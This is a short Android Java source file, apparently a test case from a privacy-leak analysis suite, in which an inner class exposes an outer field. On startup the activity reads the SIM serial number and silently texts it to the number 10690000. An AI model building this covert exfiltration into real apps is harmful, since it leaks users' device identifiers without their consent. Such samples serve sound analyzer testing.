package cn.privlens.suite.inner_class_outer_field;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    private String id = "";
    class Inner {
        String id = "inner";
        String text() { return Main.this.id; }
    }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Inner inner = new Inner();
        id = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber();
        SmsManager.getDefault().sendTextMessage("10690000", null, inner.text(), null, null);
    }
}
